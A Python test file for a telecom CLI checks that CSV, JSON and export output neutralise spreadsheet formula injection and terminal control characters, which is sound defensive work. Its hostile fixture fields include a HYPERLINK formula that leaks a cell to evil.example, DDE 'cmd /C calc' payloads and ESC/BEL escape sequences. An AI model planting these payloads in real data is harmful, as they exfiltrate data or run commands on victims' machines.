"""Server text in `-o csv`, `-o json` and the Numbers export cannot run as a formula or drive a terminal.

The sandbox's owned numbers are given hostile fields (a webhook that is a spreadsheet formula, an SMPP
system type with ESC and BEL, C1 controls, a leading tab before ``=``); the real CLI prints them and the
export writes them to a file. CSV cells that a spreadsheet would run get a leading ``'``; control
characters become spaces in CSV and are escaped in JSON (which still reads back to the server's text).
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest

from test_cli_support import csv_out, hosts, json_out, run_cli
from tui.export import ExportTarget, write_numbers
from tui.owned import OwnedRecord
from tui.sandbox.inventory import DEMO_API_KEY
from tui.scripting.output import csv_cell

HOSTILE = {
    "moHttpUrl": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "moSmppSysType": "\x1b]0;pwned\x07+cmd|' /C calc'!A0",
    "app_id": "@SUM(1+1)*cmd|' /C calc'!A0",
    "messagesCallbackType": "app",
    "messagesCallbackValue": "-2+3+cmd|' /C calc'!A0",
    "voiceCallbackType": "app",
    "voiceCallbackValue": "\t=1+1",
    "voiceStatusCallback": "https://ok.example/status\x9b31m\x85\x7f",
}
EXPECTED_CELLS = {
    "moHttpUrl": "'" + HOSTILE["moHttpUrl"],
    "moSmppSysType": " ]0;pwned +cmd|' /C calc'!A0",  # ESC and BEL are gone: what is left is no formula
    "app_id": "'" + HOSTILE["app_id"],
    "messagesCallbackValue": "'" + HOSTILE["messagesCallbackValue"],
    "voiceCallbackValue": "' =1+1",
    "voiceStatusCallback": "https://ok.example/status 31m  ",  # a URL: only its controls go
}
CONTROLS = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")  # every C0 but the line feed, DEL, C1


def _make_hostile(sandbox: Any) -> str:
    owned = sandbox.state.accounts[DEMO_API_KEY].owned
    msisdn = sorted(owned)[0]
    owned[msisdn] = {**owned[msisdn], **HOSTILE}
    return msisdn


def test_numbers_csv_neutralises_formulas_and_control_characters(sandbox: Any) -> None:
    msisdn = _make_hostile(sandbox)
    done = run_cli("numbers", "-o", "csv", *hosts(sandbox.url))
    assert not CONTROLS.search(done.stdout)
    header, rows = csv_out(done)
    cells = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    hostile = cells[msisdn]
    for column, expected in EXPECTED_CELLS.items():
        assert hostile[column] == expected, column
    assert hostile["msisdn"] == msisdn and hostile["messagesCallbackType"] == "app"
    others = [c for m, c in cells.items() if m != msisdn]
    assert all(not c["msisdn"].startswith("'") and c["msisdn"].isdigit() for c in others)
    assert any(c["moHttpUrl"].startswith("https://") for c in others)  # URLs untouched


def test_numbers_json_escapes_every_control_character_and_keeps_the_text(sandbox: Any) -> None:
    msisdn = _make_hostile(sandbox)
    done = run_cli("numbers", "-o", "json", *hosts(sandbox.url))
    assert not CONTROLS.search(done.stdout)  # ESC, BEL, CSI (\x9b), NEL (\x85), DEL: all escaped
    assert "\\u001b" in done.stdout and "\\u009b" in done.stdout and "\\u007f" in done.stdout
    record = next(r for r in json_out(done) if r["msisdn"] == msisdn)
    for field, value in HOSTILE.items():
        assert record[field] == value  # JSON is data, not a spreadsheet: nothing is prefixed or lost


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_the_numbers_export_file_is_made_safe_the_same_way(tmp_path: Path, fmt: str) -> None:
    fields = {"mo_http_url": HOSTILE["moHttpUrl"], "voice_callback_type": "app",
              "voice_callback_value": HOSTILE["voiceCallbackValue"], "app_id": HOSTILE["app_id"],
              "voice_status_callback": HOSTILE["voiceStatusCallback"]}
    records = [OwnedRecord("447700900001", "GB", "mobile-lvn", ["SMS"], **fields)]
    target = ExportTarget(tmp_path / f"numbers.{fmt}", fmt, exists=False)
    write_numbers(target, records, overwrite=False)
    text = target.path.read_text(encoding="utf-8")
    assert not CONTROLS.search(text)
    if fmt == "csv":
        row = list(csv.DictReader(io.StringIO(text, newline="")))[0]
        assert row["msisdn"] == "447700900001"
        assert row["moHttpUrl"] == EXPECTED_CELLS["moHttpUrl"] and row["app_id"] == EXPECTED_CELLS["app_id"]
        assert row["voiceCallbackValue"] == "' =1+1"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("447700900001", "447700900001"),
        ("+447700900001", "+447700900001"),  # a number, not a formula
        ("-1.5", "-1.5"),
        ("https://example.com/a=b+c", "https://example.com/a=b+c"),
        ("aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee", "aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee"),
        ("SMS,VOICE", "SMS,VOICE"),
        ("", ""),
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\r=1", "' =1"),
        ("  =1", "'  =1"),
        ("line\nbreak\x00", "line break "),
    ],
)
def test_one_cell(cell: str, written: str) -> None:
    assert csv_cell(cell) == written
